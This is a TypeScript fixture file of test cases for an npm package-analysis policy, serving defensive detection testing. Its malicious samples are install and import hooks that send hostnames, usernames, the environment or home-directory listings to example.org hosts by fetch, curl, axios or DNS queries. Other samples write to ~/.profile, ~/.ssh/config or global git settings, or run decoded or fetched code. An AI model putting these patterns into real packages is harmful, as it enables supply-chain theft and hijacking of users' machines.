/**
 * Cases of the install- and import-time policy (shared/packages/analysis/npm/run-policy.ts, docs/package-analysis.md
 * "Branch `npmpolicy24`"): for each policy a minimal case of the behaviour as the tuned sets show it, variants written
 * here in other APIs, syntax, encodings and module layouts, and honest twins that must stay below CAUTION by the
 * policy. Inert text only: hosts are example.org names, nothing is run.
 */
const pj = (extra: Record<string, unknown> = {}) => JSON.stringify({ name: 'pkgx', version: '1.0.0', ...extra });

export interface PolicyCase {
  files: Record<string, string>;
  /** The policy rule that must fire at HIGH (malicious cases). */
  rule?: string;
}

export const POLICY_MALICIOUS: Record<string, PolicyCase> = {
  // (a) collects the machine's identity or the environment and reaches the network, at install or on import.
  collectPostHttps: {
    rule: 'install_collects_and_sends',
    files: {
      'package.json': pj({ scripts: { postinstall: 'node setup.js' } }),
      'setup.js': `const os = require('os');\nconst https = require('https');\nconst d = JSON.stringify({ h: os.hostname(), u: os.userInfo().username });\nconst r = https.request({ host: 'stats.example.org', method: 'POST' });\nr.end(d);\n`,
    },
  },
  // Collected in one module, sent by another the hook loads: the phase, not the file, is judged.
  collectAcrossModules: {
    rule: 'install_collects_and_sends',
    files: {
      'package.json': pj({ scripts: { preinstall: 'node lib/a.js' } }),
      'lib/a.js': `const info = require('./info');\nconst send = require('./net');\nsend(info());\n`,
      'lib/info.js': `const { networkInterfaces } = require('node:os');\nmodule.exports = () => Object.values(networkInterfaces()).flat().map((i) => i.mac);\n`,
      'lib/net.js': `module.exports = (x) => fetch('http://' + ['c2', 'example', 'org'].join('.') + '/i', { method: 'POST', body: String(x) });\n`,
    },
  },
  // The whole environment through a DNS query name built at run time, destination not written whole.
  envOverDns: {
    rule: 'install_collects_and_sends',
    files: {
      'package.json': pj({ scripts: { install: 'node i.js' } }),
      'i.js': `const dns = require('dns').promises;\nconst e = Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60);\ndns.resolveTxt(e + '.' + Buffer.from('ZXhhbXBsZS5vcmc=', 'base64').toString());\n`,
    },
  },
  // A network tool started as a process, the user variable as the payload.
  curlWithUser: {
    rule: 'install_collects_and_sends',
    files: {
      'package.json': pj({ scripts: { postinstall: 'node p.mjs' } }),
      'p.mjs': `import { execSync } from 'node:child_process';\nconst who = process.env.USER || process.env.USERNAME;\nexecSync(\`curl -s -d u=\${who} https://hook.example.org/c\`);\n`,
    },
  },
  // Home files read and sent at install (credentials by place, not by name).
  homeFilesRead: {
    rule: 'install_collects_and_sends',
    files: {
      'package.json': pj({ scripts: { postinstall: 'node r.js' } }),
      'r.js': `const fs = require('fs'), path = require('path'), os = require('os');\nconst axios = require('axios');\nconst list = fs.readdirSync(os.homedir());\naxios.post('https://drop.example.net/up', { list });\n`,
    },
  },
  // On import: module-level code of the entry collects and sends (an IIFE).
  importBeacon: {
    rule: 'import_collects_and_sends',
    files: {
      'package.json': pj({ main: 'index.js' }),
      'index.js': `const os = require('os');\n(async () => {\n  try { await fetch('https://t.example.org/b?h=' + encodeURIComponent(os.hostname())); } catch {}\n})();\nmodule.exports = (a, b) => a + b;\n`,
    },
  },
  // (b) writes outside the package at install, in an install that also collects the machine's identity or runs
  // decoded code: a home dotfile, an ssh setting through a template, a global setting through a tool.
  writeHomeDotfile: {
    rule: 'install_writes_outside_package',
    files: {
      'package.json': pj({ scripts: { postinstall: 'node w.js' } }),
      'w.js': `const fs = require('fs');\nconst tag = require('os').userInfo().username;\nconst p = require('path').join(require('os').homedir(), '.profile');\nfs.appendFileSync(p, '\\nexport PATH=/tmp/.' + tag + ':$PATH\\n');\n`,
    },
  },
  writeEnvHomeTemplate: {
    rule: 'install_writes_outside_package',
    files: {
      'package.json': pj({ scripts: { install: 'node w.js' } }),
      'w.js': `import { writeFile } from 'node:fs/promises';\nconst cfg = Buffer.from('SG9zdCAq', 'base64').toString();\nawait writeFile(\`\${process.env.HOME}/.ssh/config\`, cfg);\nnew Function(cfg);\n`,
    },
  },
  gitGlobalSetting: {
    rule: 'install_writes_outside_package',
    files: {
      'package.json': pj({ scripts: { postinstall: 'node g.js' } }),
      'g.js': `const { execFileSync } = require('child_process');\nconst os = require('os');\nconst name = os.hostname();\nexecFileSync('git', ['config', '--global', 'url.https://mirror.example.org/' + name + '.insteadOf', 'https://github.com/']);\n`,
    },
  },
  // A background process with the machine's identity at install.
  detachedWithIdentity: {
    rule: 'install_background_process',
    files: {
      'package.json': pj({ scripts: { postinstall: 'node d.js' } }),
      'd.js': `const cp = require('child_process');\nconst id = require('os').userInfo().username;\nconst c = cp.spawn(process.execPath, ['-e', 'setInterval(()=>{},1e3)', id], { stdio: 'ignore' , detached: true });\nc.unref();\n`,
    },
  },
  // (c) decoded data run: base64 through a variable, zlib, a decipher; fetched code deserialised.
  decodeEval: {
    rule: 'install_decodes_and_runs',
    files: {
      'package.json': pj({ scripts: { preinstall: 'node x.js' } }),
      'x.js': `const b = 'Y29uc29sZS5sb2coMSk=';\nconst src = Buffer.from(b, 'base64').toString();\nnew Function(src)();\n`,
    },
  },
  inflateVm: {
    rule: 'import_decodes_and_runs',
    files: {
      'package.json': pj({ main: 'lib/main.js' }),
      'lib/main.js': `const zlib = require('zlib');\nconst vm = require('vm');\nconst code = zlib.inflateSync(require('fs').readFileSync(__dirname + '/data.bin')).toString();\nvm.runInThisContext(code);\nexports.ok = true;\n`,
      'lib/data.bin': 'x',
    },
  },
  fetchedUnserialize: {
    rule: 'install_decodes_and_runs',
    files: {
      'package.json': pj({ scripts: { postinstall: 'node s.js' } }),
      's.js': `const http = require('http');\nconst ser = require('node-serialize');\nhttp.get('http://cfg.example.org/c', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => ser.unserialize(d)); });\n`,
    },
  },
};

export const POLICY_HONEST: Record<string, Record<string, string>> = {
  // A setup step writing the user's settings alone (a known_hosts entry): a note, not CAUTION.
  knownHostsAlone: {
    'package.json': pj({ scripts: { postinstall: 'node k.js' } }),
    'k.js': `const fs = require('fs'), os = require('os'), path = require('path');\nfs.appendFileSync(path.join(os.homedir(), '.ssh', 'known_hosts'), 'git.example.org ssh-ed25519 AAAAC3Nz\\n');\n`,
  },
  // The host name printed while a registry name is resolved.
  hostnamePrinted: {
    'package.json': pj({ scripts: { postinstall: 'node h.js' } }),
    'h.js': `const os = require('os'); const dns = require('dns');\nconsole.log('installed on ' + os.hostname());\ndns.lookup('registry.example.org', (e, a) => console.log(a));\n`,
  },
  // An esbuild-style installer: platform and architecture, its own release host, written inside the package.
  binaryInstaller: {
    'package.json': pj({ homepage: 'https://pkgx.example.org', scripts: { postinstall: 'node install.js' } }),
    'install.js': `const https = require('https'), fs = require('fs'), path = require('path'), os = require('os');\nconst url = \`https://dl.pkgx.example.org/v1/pkgx-\${os.platform()}-\${os.arch()}.tgz\`;\nconst env = { ...process.env, PKGX_QUIET: '1' };\nhttps.get(url, (res) => res.pipe(fs.createWriteStream(path.join(__dirname, 'bin', 'pkgx'))));\nrequire('child_process').spawnSync(path.join(__dirname, 'bin', 'pkgx'), ['--version'], { env });\n`,
  },
  // A cache download under home (a browser-automation installer).
  cacheUnderHome: {
    'package.json': pj({ scripts: { postinstall: 'node dl.js' } }),
    'dl.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst dir = path.join(os.homedir(), '.cache', 'pkgx');\nfs.mkdirSync(dir, { recursive: true });\nfs.writeFileSync(path.join(dir, 'version'), '1');\nfetch('https://github.com/pkgx/pkgx/releases/download/v1/x.zip');\n`,
  },
  // A library reading the host name in a function callers call, with an HTTP client: runtime, not import.
  loggerLibrary: {
    'package.json': pj({ main: 'index.js' }),
    'index.js': `const os = require('os');\nconst https = require('https');\nfunction record(msg, url) { return https.request(url, { method: 'POST' }).end(JSON.stringify({ host: os.hostname(), msg })); }\nmodule.exports = { record };\n`,
  },
  // The environment copied for a child, checked, or read by name: no collection.
  envForChild: {
    'package.json': pj({ scripts: { install: 'node b.js' } }),
    'b.js': `const cp = require('child_process');\nif (Object.prototype.hasOwnProperty.call(process.env, 'PKGX_SKIP')) process.exit(0);\nconst env = Object.assign({}, process.env, { CC: 'gcc' });\ncp.spawnSync('make', [], { env, stdio: 'inherit' });\nfetch('https://registry.example.org/pkgx');\n`,
  },
  // A settings file of the tool under ~/.config at import (an update checker's state).
  configStateAtImport: {
    'package.json': pj({ main: 'index.js' }),
    'index.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst f = path.join(os.homedir(), '.config', 'pkgx', 'last-check.json');\ntry { fs.mkdirSync(path.dirname(f), { recursive: true }); fs.writeFileSync(f, JSON.stringify({ t: Date.now() })); } catch {}\nmodule.exports = {};\n`,
  },
  // Resolving the machine's own name locally.
  ownNameLookup: {
    'package.json': pj({ scripts: { postinstall: 'node n.js' } }),
    'n.js': `const dns = require('dns'), os = require('os');\ndns.lookup(os.hostname(), (err, a) => { if (!err) console.log('resolves to ' + a); });\n`,
  },
  // A JSON settings document parsed, no code run; a template compiled from a literal.
  literalFunction: {
    'package.json': pj({ main: 'index.js' }),
    'index.js': `const g = new Function('return this')();\nconst cfg = JSON.parse(Buffer.from('e30=', 'base64').toString());\nmodule.exports = { g, cfg };\n`,
  },
  // A GitHub release download at install with the user's GITHUB_TOKEN (rate limits), from GitHub.
  githubTokenRelease: {
    'package.json': pj({ scripts: { postinstall: 'node gh.js' } }),
    'gh.js': `const headers = process.env.GITHUB_TOKEN ? { authorization: 'token ' + process.env.GITHUB_TOKEN } : {};\nfetch('https://api.github.com/repos/pkgx/pkgx/releases/latest', { headers }).then((r) => r.json()).then((j) => console.log(j.tag_name));\n`,
  },
};
